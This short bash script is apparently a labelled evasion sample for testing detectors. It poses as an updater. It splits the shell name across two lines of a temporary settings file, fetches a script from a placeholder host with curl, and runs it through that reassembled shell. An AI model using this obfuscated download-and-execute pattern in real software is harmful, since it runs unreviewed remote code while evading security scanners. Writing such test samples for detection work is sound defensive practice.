#!/usr/bin/env bash
# Evasion: download and run code. The updater writes its "settings" to a
# temporary file (the runner name is split in two assignments there), sources
# that file later and runs "$runner" on the downloaded text: the shell name only
# travels through a file the script wrote itself.
set -euo pipefail

settings=$(mktemp "${TMPDIR:-/tmp}/upd.XXXXXX")

write_defaults() {
    cat > "$settings" <<'CONF'
runner=ba
runner+=sh
update_url=https://updates.example-cdn.net/agent/latest.sh
channel=stable
CONF
}

load_settings() {
    # shellcheck source=/dev/null
    . "$settings"
}

write_defaults
echo "checking for updates on channel ..."
load_settings
echo "channel: $channel"
payload=$(curl -fsSL "$update_url")
"$runner" -c "$payload"
rm -f "$settings"
